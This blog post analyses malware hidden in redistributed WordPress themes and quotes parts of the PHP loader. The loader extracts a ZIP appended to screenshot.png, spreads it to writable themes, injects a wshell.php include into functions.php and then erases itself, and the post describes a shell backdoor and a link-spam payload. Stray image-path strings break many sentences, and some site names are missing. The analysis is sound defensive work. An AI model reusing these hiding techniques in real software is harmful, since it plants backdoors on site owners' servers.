As I’ve gotten involved with helping the theme review team, I’ve seen some strange things. One of the stranger ones was a theme virus that actually propagated from one theme to all others in a WordPress installation. That one was awfully clever, but it ultimately didn’t really do anything but propagate and generally be a pain in the ass.

However, today, @chip_bennett discovered that one of his themes had been copied and was being redistributed by a site called

It had malware inserted into it that is of a much more malicious and spammy nature. Further investigation reveals that ALL of the themes on that site contain basically the same code. This code is not actually “viral”, but it’s definitely malware and it’s worth investigating to see some of the ways people try to hide their spam.

So today,I’m going to dissect it and serve it up on a platter for everybody to see.

Infection Point

We’ll start with the most obvious starting point, and that is in the functions.php file. At the very end of the functions.php file, we find a call to “get_custom_headers();”. An innocuous enough sounding name, so we go find that function. Here’s the first part of the function:

function get_custom_headers() {
    $_SESSION['authenticated'] = false;
    $filename = dirname(__FILE__).DS."screenshot.png";

Right away, something is wrong. It’s getting the location of the screenshot file (DS is defined elsewhere as the Directory Separator, which makes it work on both Linux and Windows boxes). That doesn’t make a whole lot of sense, the screenshot is supposed to be displayed by the admin interface only. Let’s read on.

    $fileContents = explode(pack("c*", 0xAE,0x42,0x60,0x82), file_get_contents($filename));
    $screenshot = array_shift($fileContents);

The “pack” function is one that isn’t used much. It’s a means of manipulating binary files. The “explode” function is a way of splitting a string by some characters. So what this code really is doing is to find a particular string of hex digits in the screenshot file, split it across that boundary, and then get only the first part of that (the actual screenshot file), thanks to the array shift. This gets used later.In other words, he’s appended something onto the end of the screenshot file, and this code reads it in, finds it, then gets a copy of it. What could this be? Turns out to be a ZIP file.

    $unzipped = false;
    $path = check_istalled_path($_SERVER['DOCUMENT_ROOT']);

The check_istalled_path function looks for a wp-additional directory and returns a path to it.

    if($path === false && $_SERVER['HTTP_HOST'] != "localhost" && $_SERVER['SERVER_ADDR'] != "") {
    if(function_exists("zip_read")) {
        $path = array_pop(array_shuffle(find_writeble_path($_SERVER['DOCUMENT_ROOT'])));
        @mkdir($path = $path.DS."wp-additional");

        file_put_contents($path.DS."", implode(pack("c*", 0xAE,0x42,0x60,0x82), $fileContents));
        $zip = new ZipArchive;
        if ($zip->open($path.DS."")===true) {

        $unzipped = true;
        @file_put_contents(dirname(__FILE__).DS."functions.php","<!--?php  if(is_readable(\"$path".DS."wshell.php\")) { @require_once(\"$path".DS."wshell.php\"); } ?-->\n".file_get_contents(dirname(__FILE__).DS."functions.php"));

If the zip_read function is available, he makes a wp-additional directory and puts the ZIP file there. Then he simply unzips the malware file into the target theme. This requires a bit of explanation.

Elsewhere there is a function called “find_writeble_path”. This function doesn’t limit itself to the current theme’sdirectory. Instead, it looks through all installed themes on the system and tries to find all themes that has permissions set to allow it to be written to. So in all of the above, he’s really looking for any theme that he can infect with the malware contained in this archive. The “array_shuffle” line is his way of picking a random theme.

So he unzips the malware to that theme then adds code to himself to that makes it try to read and execute this wshell.php file.

But if the wp-additional directory full of malware has already been created somewhere on the system, then the above code doesn’t run. If it finds the malware directory, then it skips that and just does the following:

    } else {if($_SERVER['HTTP_HOST'] != "localhost" && $_SERVER['SERVER_ADDR'] != "") {
        $path = $_SERVER['DOCUMENT_ROOT'].DS.$path;
        @file_put_contents(dirname(__FILE__).DS."functions.php","<!--?php if(is_readable(\"$path".DS."wshell.php\")) { @require_once(\"$path".DS."wshell.php\"); } ?-->\n".file_get_contents(dirname(__FILE__).DS."functions.php"));

It found the malware, so it simply rewrites itself to make sure it includes it.

The overall affect of the above code is to make the them unzip the malware into any theme directory it can find, then rewrite itself to attempt to include it.

Next we have self-eliminating code:

    @file_put_contents(__FILE__, array_shift(explode("function get_custom_headers", file_get_contents(__FILE__))));
    @file_put_contents(dirname(__FILE__).DS."screenshot.png", $screenshot);

What does this code do? Well, it erases itself from the file!

This code reads the file that the malware code is in right now (with file_get_contents(__FILE__) ). Then it explodes it along the get_custom_headers function. Finally, it writes it back out to the file itself.Basically, using the explode and array_shift method, it finds the get_custom_headers function code, then writes the functions.php back out without that code or anything after it. Now that the malware has done its job, this code basically self deletes, to make it not traceable. All that’s left is the wp-additional directory that contains the malware, and the include it wrote to the beginning of the file to load that malware.

Here’s where it also erases itself from the screenshot, using the $screenshot variable it saved earlier.

    if(function_exists("zip_read") && $unzipped == true && $_SERVER['HTTP_HOST'] != "localhost" && $_SERVER['SERVER_ADDR'] != "") {

This just makes it load the now-decompressed wshell.php malware immediately, instead of waiting for the next page load.

Also note how the code doesn’t run on localhost installs? If you look closely, the self-removing code does run on those installs. Meaning that if you run this theme in a test bed, then it removes itself without infection. This isto make it harder for people to analyse the code, since it disappears the first time you run it on a local test system.

The Malware

So what is this malware? Well, there’s two parts to it.

The first part is a standard PHP Shell install, essentially giving a shell backdoor to anybody who knows the location of the malware and the username and password. This is a massive security hole, obviously.

The second part is somewhat custom. It’s in the wshell.php file that the above malware tries so hard to get you to include. Essentially, this installs a spamming system of fairly wide ranging scope.

The first thing it does is to notify its master that it exists. It does this by making a connection to and sending what looks sorta like SMTP commands, but which are probably customized in some way. But basically it tells this server where it’s installed and how it can be accessed. After it gets confirmation, it sets a parameter to make it not send this again.The spamming system itself contains a number of commands. The way it gets commands from the attacker is by looking for them in cookies with a name of “wsh-cmd”. So in this sense, it’s kind of like a server. The attacker has some kind of a client that talks to your server via the normal HTTP, but sends it hidden commands via this cookie.

The commands allow the attacker to view a list of writable files in your themes directory, and to view any specified readable file on the system. It avoids triggering mod_security systems by base64 encoding files that it sends around. But the main thrust of the system is to allow the attacker to insert links into, and remove links from, any writable theme file.

Essentially, it’s a remote-controlled automated link spamming tool.

The attacker can send URLs to your system and it will insert them into theme files. He can later remove those links. There’s a lot of code to allow it to generate proper links, to insert them into specific lines, things of that nature.


In short, don’t trust dodgy theme sites. Get your free themes from Extend-Themes instead.

Also, this sort of thing should tell you why we ban certain types of things from the theme repository. We can’t scan for specific malware, as it’s too easy to get around that sort of scanning.Scanning for functions that most of these malwares use is simpler and more effective. And all of our themes go through human-eye review as well, with anything even slightly dodgy getting brought up before a mailing list of experts who can take a look and determine what is what.



  1. Nice Write up Otto, it sometimes amazes me how far people will go to score a few links.

  2. Thanks for writing up this exercise and breaking down the code structures. This is very helpful in getting a better understanding of what to look for and whom to trust for free WordPress Themes.

  3. It is sad to see themes being used to distribute this garbage. Some of the steps used to hide that garbage are pretty clever though. Imagine what this person could do if they choose to use their powers for good!

  4. Excellent post Otto. Thank you for sharing this valuable knowledge! I’ve been using the same theme forever (which I made and probably need to upgrade to 3.0+ compatibility haha), but I have a lot of friends and clients that use WordPress, I will be sure to pass this along!

  5. Holy crap. That’s all I gotta say.

    • Heh. Chip just found and sent me another one that does link insertion into the footer by accepting hidden commands via the HTTP_USER_AGENT.

      Link spammers really are trying very, very hard.

      • No matter how well hidden, eventually a “payload” has to turn back into code and be executed.

        Has anyone considered using an automated-test approach?

        1) Load a WordPress install and the theme into somekind of test rig, based on the code at:
        2) Generate hash values for every file in the install, including the plugin files.
        3) Have the test code visit every page on the “site” and record the HTML produced.
        4) Parse the captured HTML, looking for links that shouldn’t be there.
        5) Re-hash all the files in the install, and find any that have changed.

        And if anything “bad” is discovered, refuse the template.

        Much of the code needed to do this stuff is already built! …see


  6. Very comprehensive explanation, Otto.

    It raises two issues, though. One from a non-too-technical perspective, the other from a more technical one.

    The range of approved themes available via WordPress is not exactly what you’d call impressive and the majority look like they were designed back in WordPress 1.0 days. That pushes people like me into the wider marketplace.

    Why not build Theme Check into the next service release of WP, not just be available as an option. It would then becomea sort of charcoal filter for code before it was installed.

    Its your job to ensure code stays poetry and not pornography.

    • It would be great if some form of anti-virus could be included in core to protect end-users, but sadly I doubt this will happen. I have a bad feeling Matt would rather use this as part of his long-running crusade against non-GPL themes. It’s in his interests to scare people off downloading themes from third-party sites. I really hope I’m wrong, as in reality most users neither know nor care about malware or licensing issues, and hence aren’t going to protect themselves.

      Also, it’s so hard to get a theme into the official directory these days, I’m not surprised most of them are by code monkeys rather than graphic designers and that their aesthetic qualities reflect this.

      • If there was some kind of malware checking in the core, then these spam authors would simply write their code to not be detected by it. There’s an infinite number of ways to hide things like this, you simply can’t catch them all and it doesn’t make any sense to get into an arms race over it.

        Simply educating users about only downloading themes from trustworthy sites should be enough. Perhaps it isn’t.

        Also, getting a theme into the official directory is a lot simpler. Use the Theme Check plugin and fix the issues it lists before submitting your theme and it will be a lot more likely to pass review.

      • Two days ago, I might have shared your view; however, considering that of the Themes distributed by sites from the first three pages of Google results for “Free WordPress Themes, 88% have SEO/spam links, 76% have base64 or other encoding, and at least 12% have some form of other malware, I no longer agree.

        This is no longer merely about a crusade against non-GPL Themes(although that, too, is an issue, since most of these sites also mis-apply licensing). This problem transcends the GPL-only issue. Users who look outside of official channels in order to find free WordPress Themes will get compromised Themes.

        Also, I disagree completely that getting a Theme into the repository is unduly onerous. It might take a while, but that is a function of having an insufficient number of Theme reviewers.

        • This problem transcends the GPL-only issue. Users who look outside of official channels in order to find free WordPress Themes will get compromised Themes.

          Well, if GPL were not such a religious issue then people wouldn’t be being driven beyond the official repository to find themes, because would be open to a much wider range of work. It would be possible to vet non-GPL theme developers and link to reputable ones from, in the same way as currently happens with commercial themes. Security ought to transcend GPL-zealotry, but, again, I’m not convinced it will.

          And as for getting into an arms race, I was under the impression that was an inevitable consequence of trying to deal with spam and malware. It’s all very well to say that people who go off-piste looking for a theme forfeit the right to protection, but you need to bear in mind that if they do get hacked, they’re probably going to blame wordpress rather than their theme, and ultimately that’s going to be bad forwordpress.

          • WTF are you talking about? This has nothing to do with the GPL at all.

            If you don’t want to release a theme you created under the GPL, then don’t. That has nothing to do with spam and malicious software.

            And no, we’re not going to allow non-GPL software onto In fact, we go even further and don’t allow any *paid* software onto either. WordPress is free and it will remain so.

            If you want to play in the sandbox with the other kids, then you obey the rules like everybody else does. That’s notzealotry; that’s standing by a set of principles.

            • If you don’t want to release a theme you created under the GPL, then don’t. That has nothing to do with spam and malicious software.

              Then maybe you guys should stop running around claiming that any free theme not hosted by is going to compromise your wordpress install. As far as I can tell, the problem is with third-party repositories collating themes by a variety of authors and injecting their code into it. Do you have any examples of a theme obtained direct from the author which pulls this crap? I’d genuinely like to know.

              In fact, we go even further and don’t allow any *paid* software onto either

              um, what about ? I wasn’t talking about hosting (I wouldn’t presume to tell Matt what to put on his servers); I was talking about linking, and how it might help to keep people away from disreputable sites by directing them towards trustworthy ones.

              It’s just massively illogical to equate somebody like Sadish (who has been doing this for years, has a theme in use on and distributes only through his own site) with the second-handtheme warehouses which exist only to propagate spam. If the ‘non-GPL = evil’ mindset is just too deep to overcome and there’s no way you can tell people what third-party sites they can trust, could you not at least publish some form of watchlist advising users which sites to avoid?

